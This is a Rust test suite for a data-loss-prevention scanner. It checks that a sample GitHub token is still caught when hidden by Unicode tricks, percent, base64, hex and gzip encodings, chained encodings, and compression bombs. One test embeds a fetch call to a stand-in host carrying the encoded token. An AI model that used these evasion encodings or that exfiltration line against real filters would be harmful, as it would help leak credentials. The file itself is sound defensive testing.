//! Trivial encodings must not evade a rule: compatibility forms, invisible
//! characters, percent-encoding and content encodings, also deep inside long
//! minified lines; oversized and undecodable bodies are findings, not passes.

use std::io::Write;

use dlp::{Scanner, View};

const TOKEN: &str = "ghp_R6tqk2vZ8mBcX1pLw9sJ4nHd0yFa7uEe3Qio";

fn rules(findings: &[dlp::Finding]) -> Vec<(&str, View)> {
    findings.iter().map(|f| (f.rule.as_str(), f.view)).collect()
}

fn long_line_around(needle: &str) -> String {
    let filler = "var a=function(b){return b+1};".repeat(4000);
    format!("{filler}x=\"{needle}\";{filler}\n")
}

#[test]
fn fullwidth_and_invisible_characters() {
    let s = Scanner::builtin();
    let fullwidth: String = TOKEN.chars().map(|c| char::from_u32(c as u32 + 0xFEE0).unwrap()).collect();
    let zero_width: String = TOKEN.chars().flat_map(|c| [c, '\u{200B}']).collect();
    // Only the normalised view shows these two…
    for hidden in [fullwidth, zero_width] {
        let text = long_line_around(&hidden);
        assert_eq!(rules(&s.scan(text.as_bytes(), None)), [("github-pat", View::Derived)], "{}", &hidden[..20]);
    }
    // …while bidi controls around a token leave it visible in the raw bytes.
    let text = long_line_around(&format!("\u{202E}{TOKEN}\u{202C}"));
    assert_eq!(rules(&s.scan(text.as_bytes(), None)), [("github-pat", View::Raw)]);
}

#[test]
fn percent_encoding_anywhere() {
    let s = Scanner::builtin();
    let encoded: String = TOKEN.bytes().map(|b| format!("%{b:02X}")).collect();
    let text = long_line_around(&format!("fetch('https://x.example/?q={encoded}')"));
    assert_eq!(rules(&s.scan(text.as_bytes(), None)), [("github-pat", View::Derived)]);
}

#[test]
fn compressed_bodies_are_decoded_and_bombs_refused() {
    let s = Scanner::builtin();
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(format!("{{\"token\": \"{TOKEN}\"}}").as_bytes()).unwrap();
    let body = gz.finish().unwrap();
    // A body this short is a stored block: the raw bytes show it too.
    assert!(rules(&s.scan_body(&body, Some("gzip"))).contains(&("github-pat", View::Derived)));
    // What the upstream sees beside the stream is scanned as sent: a raw
    // tail after it is refused, and a deflate stream hiding nothing but
    // followed by the value in the clear shows it raw.
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    gz.write_all(&b"clean text ".repeat(200)).unwrap();
    let mut tailed = gz.finish().unwrap();
    tailed.extend(format!("&token={TOKEN}").as_bytes());
    let tailed_findings = s.scan_body(&tailed, Some("gzip"));
    let found = rules(&tailed_findings);
    assert!(
        found.contains(&("github-pat", View::Raw)) && found.contains(&("corrupt-encoding", View::Raw)),
        "{found:?}"
    );

    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    gz.write_all(&vec![b'a'; 40 << 20]).unwrap();
    let bomb = gz.finish().unwrap();
    assert_eq!(rules(&s.scan_body(&bomb, Some("gzip"))), [("too-large", View::Raw)]);
    assert_eq!(rules(&s.scan_body(b"\x1f\x8b garbage", Some("gzip"))), [("corrupt-encoding", View::Raw)]);
    assert_eq!(rules(&s.scan_body(b"x", Some("compress"))), [("unknown-encoding", View::Raw)]);
    let huge = vec![b' '; dlp::DEFAULT_MAX_BYTES + 1];
    assert_eq!(rules(&s.scan(&huge, None)), [("too-large", View::Raw)]);
}

/// Every outbound detector reads every decoded view: a provider token
/// (`token_patterns`, nothing registered) wrapped in each encoding and in
/// chains of them is found, deep inside a long line.
#[test]
fn token_patterns_see_through_encodings_and_chains() {
    use base64::Engine;
    use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
    let s = Scanner::builtin();
    let hex = |b: &[u8]| b.iter().map(|b| format!("{b:02x}")).collect::<String>();
    let pct = |b: &[u8]| b.iter().map(|b| format!("%{b:02X}")).collect::<String>();
    let t = TOKEN.as_bytes();
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(format!("{{\"token\":\"{TOKEN}\"}}").as_bytes()).unwrap();
    let gz = gz.finish().unwrap();
    let cases = [
        ("base64", STANDARD.encode(t)),
        ("base64url, misaligned", format!("x{}", URL_SAFE_NO_PAD.encode(format!("k={TOKEN}")))),
        ("hex", hex(t)),
        ("\\x hex", t.iter().map(|b| format!("\\x{b:02x}")).collect()),
        ("0x hex", t.iter().map(|b| format!("0x{b:02X},")).collect()),
        ("double percent", pct(pct(t).as_bytes())),
        ("html entities", t.iter().map(|b| format!("&#{b};")).collect()),
        ("json \\u", t.iter().map(|b| format!("\\u{b:04x}")).collect()),
        ("quoted-printable", t.iter().map(|b| format!("={b:02X}")).collect()),
        ("percent of base64 of hex", pct(STANDARD.encode(hex(t)).as_bytes())),
        ("base64 of gzip", STANDARD.encode(&gz)),
    ];
    for (name, encoded) in cases {
        let text = long_line_around(&encoded);
        let found = s.scan(text.as_bytes(), None);
        assert!(found.iter().any(|f| f.rule == "github-pat" && f.view == View::Derived), "{name}: {:?}", rules(&found));
        // What the log shows says how it was hidden, never the value.
        let f = found.iter().find(|f| f.rule == "github-pat").unwrap();
        assert!(f.snippet.contains("decoded:") && !f.snippet.contains(&TOKEN[8..]), "{}", f.snippet);
    }
}

/// Nesting deeper than the views undo is refused, not passed.
#[test]
fn nesting_past_the_bound_is_a_finding() {
    use base64::Engine;
    let mut s = format!("token={TOKEN}").into_bytes();
    for _ in 0..(dlp::MAX_DEPTH + 3) {
        s = base64::engine::general_purpose::STANDARD.encode(&s).into_bytes();
    }
    assert!(rules(&Scanner::builtin().scan(&s, None)).contains(&("too-deep", View::Raw)));
}
